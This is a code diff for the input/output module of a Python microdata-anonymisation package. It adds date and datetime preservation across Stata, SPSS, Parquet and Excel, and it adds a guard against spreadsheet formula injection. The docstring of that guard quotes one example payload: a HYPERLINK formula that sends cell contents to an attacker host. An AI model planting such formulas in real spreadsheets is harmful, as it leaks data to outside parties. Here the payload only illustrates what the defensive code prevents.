@@ -5,7 +5,8 @@ Stata and SPSS are read and written with pyreadstat (ReadStat), not with pandas'
 reader/writer: one code path for both formats, the column-to-value-label mapping is public
 (``variable_value_labels``; pandas exposes it for reading only through a private attribute),
 and pandas writes no SPSS at all (``pandas.read_spss`` itself calls pyreadstat).
-Excel is read and written with pandas and openpyxl; it has no labels.
+Excel is read and written with pandas and openpyxl; it has no labels. Date and datetime
+columns keep their kind in every format (:mod:`microagg._dates_io`).
 """
 
 from __future__ import annotations
@@ -16,11 +17,12 @@ import re
 import warnings
 from collections.abc import Collection, Mapping
 from dataclasses import dataclass, field, replace
-from typing import IO, Any, Literal
+from typing import IO, Any, BinaryIO, Literal, cast
 
 import pandas as pd
 
 from ._atomic import atomic_write
+from ._dates_io import as_datetimes, excel_dates, readstat_dates
 from ._formats import TableFormat, require_formats
 from .exceptions import LabelsDroppedWarning
 from .schema import check_unique_columns
@@ -42,12 +44,14 @@ _SHEET_NAME = re.compile(r"^[^\[\]:*?/\\]{1,31}$")
 
 @dataclass(frozen=True)
 class TableMetadata:
-    """The variable and value labels of a Stata or SPSS table.
+    """The variable and value labels of a Stata or SPSS table, and the kind of its dates.
 
     :func:`microagg.io.read_table` puts one in ``df.attrs["microagg_metadata"]``;
     :func:`microagg.io.write_table` writes it back to ``.dta`` and ``.sav`` (other formats
     have no labels). A column read as its value labels (text) is written back as its codes
-    with those labels, when every value is still one of them.
+    with those labels, when every value is still one of them. A date column is read as
+    ``datetime64`` and written again as a date or a datetime, as it was read (a Parquet
+    table with ``date32`` columns has metadata with their kinds only).
 
     Parameters
     ----------
@@ -56,12 +60,20 @@ class TableMetadata:
     value_labels : dict of str to dict
         Each labelled column's codes and their labels (``{"sex": {1: "male", 2: "female"}}``).
     source_format : str
-        The format read: ``"dta"`` or ``"sav"``.
+        The format read: ``"dta"``, ``"sav"`` (or ``"parquet"``).
+    date_kinds : dict of str to str
+        Each date column's kind as read: ``"date"`` (SPSS ``DATE11``, Stata ``%td``, Parquet
+        ``date32``) or ``"datetime"`` (``DATETIME20``, ``%tc``, a timestamp).
+    date_formats : dict of str to str
+        Each Stata or SPSS date column's display format (``{"dob": "DATE11"}``), written
+        again to the same format.
     """
 
     variable_labels: dict[str, str] = field(default_factory=dict)
     value_labels: dict[str, dict[Any, str]] = field(default_factory=dict)
     source_format: str = ""
+    date_kinds: dict[str, str] = field(default_factory=dict)
+    date_formats: dict[str, str] = field(default_factory=dict)
 
     def released(self, published: pd.DataFrame, *, masked: Collection[str]) -> TableMetadata:
         """The metadata that still describes a published table.
@@ -70,7 +82,8 @@ class TableMetadata:
         only if each published value is still one of its labelled codes (or, for a column
         read as labels, one of its labels); otherwise they are dropped with a
         :class:`~microagg.exceptions.LabelsDroppedWarning` (a group mean of codes 1 and 2
-        is not "male"). Columns the table no longer has are forgotten.
+        is not "male"). Columns the table no longer has are forgotten (their labels and
+        date kinds).
 
         Parameters
         ----------
@@ -93,12 +106,14 @@ class TableMetadata:
                 continue
             kept[col] = mapping
         return replace(self, value_labels=kept, variable_labels={
-            c: label for c, label in self.variable_labels.items() if c in columns})
+            c: label for c, label in self.variable_labels.items() if c in columns},
+            date_kinds={c: k for c, k in self.date_kinds.items() if c in columns},
+            date_formats={c: f for c, f in self.date_formats.items() if c in columns})
 
 
 def table_metadata(df: pd.DataFrame) -> TableMetadata | None:
     """The :class:`TableMetadata` that :func:`~microagg.io.read_table` kept in ``df.attrs``,
-    or ``None`` (a CSV, Parquet, Excel or database table)."""
+    or ``None`` (a CSV or database table; a Parquet or Excel table without dates)."""
     found = df.attrs.get(METADATA_KEY)
     if found is not None and not isinstance(found, TableMetadata):
         raise TypeError(f"df.attrs[{METADATA_KEY!r}] must be a TableMetadata. Got "
@@ -151,7 +166,10 @@ def read_labelled(file: pathlib.Path, fmt: TableFormat, *,
     sdcMicro users (and R's ``haven::as_factor``) expect of categorical key variables; a
     column with unlabelled values (a number with labelled special codes, e.g. 99 = refused)
     keeps its numbers. ``"codes"`` keeps every column's codes. Missing values (Stata's
-    ``.a``-``.z``, SPSS user-missing codes) are read as missing.
+    ``.a``-``.z``, SPSS user-missing codes) are read as missing. A date column (SPSS
+    ``DATE11``, Stata ``%td``: pyreadstat's ``datetime.date`` objects) is read as
+    ``datetime64[s]``, a datetime (``DATETIME20``, ``%tc``) as pyreadstat gives it; their
+    kinds and display formats are kept in the metadata.
     """
     if value_labels not in ("labels", "codes"):
         raise ValueError("The 'value_labels' parameter of read_table must be 'labels' or "
@@ -163,11 +181,14 @@ def read_labelled(file: pathlib.Path, fmt: TableFormat, *,
     except (pyreadstat.ReadstatError, pyreadstat.PyreadstatError, OSError) as exc:
         raise ValueError(f"Could not read {str(file)!r} as {_KIND[fmt]}: {exc}") from exc
     check_unique_columns(df.columns, source=f"input file {str(file)!r}")
+    kinds = as_datetimes(df)
     metadata = TableMetadata(
         variable_labels={c: str(v) for c, v in meta.column_names_to_labels.items() if v},
         value_labels={c: dict(m) for c, m in meta.variable_value_labels.items()
                       if m and c in df.columns},
-        source_format=fmt)
+        source_format=fmt, date_kinds=dict(kinds),
+        date_formats={c: str(meta.original_variable_types[c]) for c in kinds
+                      if meta.original_variable_types.get(c)})
     if value_labels == "labels":
         for col, mapping in metadata.value_labels.items():
             labelled = _as_labels(df[col], mapping)
@@ -230,7 +251,9 @@ def write_labelled(df: pd.DataFrame, file: pathlib.Path, fmt: TableFormat,
     written empty: neither format has missing strings). A text column read as labels is
     written as its codes with its value labels; one whose values are no longer all labels
     (generalized: ``"male|female"``) is written as text and its value labels dropped with a
-    :class:`~microagg.exceptions.LabelsDroppedWarning`.
+    :class:`~microagg.exceptions.LabelsDroppedWarning`. A date or datetime column is written
+    with a date or datetime format, the one it was read with where it can
+    (:func:`microagg._dates_io.readstat_dates`).
     """
     pyreadstat = require_formats(file, "pyreadstat")
     _check_names(df, file, fmt)
@@ -243,12 +266,17 @@ def write_labelled(df: pd.DataFrame, file: pathlib.Path, fmt: TableFormat,
     if metadata is not None:
         out, value_labels = _labels_to_write(out, metadata, fmt)
         column_labels = {c: v for c, v in metadata.variable_labels.items() if c in out.columns}
+    same_format = metadata is not None and metadata.source_format == fmt
+    out, date_formats = readstat_dates(
+        out, fmt, metadata.date_kinds if metadata is not None else {},
+        metadata.date_formats if metadata is not None and same_format else {})
     writer = pyreadstat.write_dta if fmt == "dta" else pyreadstat.write_sav
 
     def write(handle: IO[bytes]) -> None:
         # pyreadstat opens the path itself: the same inode, which atomic_write fsyncs.
         writer(out, handle.name, column_labels=column_labels or None,
-               variable_value_labels=value_labels or None)
+               variable_value_labels=value_labels or None,
+               variable_format=date_formats or None)
 
     try:
         atomic_write(file, write)
@@ -313,11 +341,15 @@ def _cell_text(value: Any) -> Any:
     return str(value)
 
 
-def write_excel(df: pd.DataFrame, file: pathlib.Path, *, sheet: str | None = None) -> None:
+def write_excel(df: pd.DataFrame, file: pathlib.Path, *, sheet: str | None = None,
+                metadata: TableMetadata | None = None) -> None:
     """Write one worksheet (``sheet``, default ``"Sheet1"``) of a new ``.xlsx`` atomically.
 
     Validation of the path is assumed. Excel has no variable or value labels; a worksheet
-    holds at most 1,048,575 rows under its header and 16,384 columns.
+    holds at most 1,048,575 rows under its header and 16,384 columns. A date column gets a
+    date number format, a datetime one a date and time format (the kinds of `metadata`,
+    :func:`microagg._dates_io.excel_dates`). Text is always a string cell, never a formula
+    or an error value (:func:`_text_cells`).
     """
     name = "Sheet1" if sheet is None else sheet
     if not isinstance(name, str) or not _SHEET_NAME.match(name):
@@ -328,8 +360,35 @@ def write_excel(df: pd.DataFrame, file: pathlib.Path, *, sheet: str | None = Non
                          f"{_EXCEL_COLUMNS} columns; the table has n_samples={df.shape[0]} "
                          f"and {df.shape[1]} columns. Write {str(file)!r} as Parquet or CSV.")
     require_formats(file, "openpyxl")
+    table = excel_dates(df, metadata.date_kinds if metadata is not None else {})
 
     def write(handle: IO[bytes]) -> None:
-        df.to_excel(handle, sheet_name=name, index=False, engine="openpyxl")
+        with pd.ExcelWriter(cast(BinaryIO, handle), engine="openpyxl") as writer:
+            table.to_excel(writer, sheet_name=name, index=False)
+            _text_cells(writer.sheets[name], table)
 
     atomic_write(file, write)
+
+
+def _text_cells(worksheet: Any, table: pd.DataFrame) -> None:
+    """Make every header cell and every cell of a text column a string cell.
+
+    openpyxl stores a string that begins with ``=`` as a formula (a respondent's
+    ``=HYPERLINK("http://attacker.example/?leak="&A2,"x")`` would be live in the release)
+    and one equal to an error code (``#N/A``) as an error value. Such cells get openpyxl's
+    explicit string data type (``"s"``) back, which keeps the exact text: Excel and
+    LibreOffice show a string cell as text and never evaluate it, as for text beginning
+    with ``+``, ``-`` or ``@``, which openpyxl already writes as strings. The leading-quote
+    escape (``'=...``) is not used: it would change the published value for every other
+    reader (pandas, R, a CSV export).
+    """
+    text_columns = [position for position, col in enumerate(table.columns, start=1)
+                    if not (pd.api.types.is_numeric_dtype(table[col].dtype)
+                            or pd.api.types.is_datetime64_any_dtype(table[col].dtype))]
+    cells = [*worksheet[1]]
+    for position in text_columns:
+        cells += [row[0] for row in worksheet.iter_rows(min_row=2, min_col=position,
+                                                          max_col=position)]
+    for cell in cells:
+        if cell.data_type in ("f", "e") and isinstance(cell.value, str):
+            cell.data_type = "s"
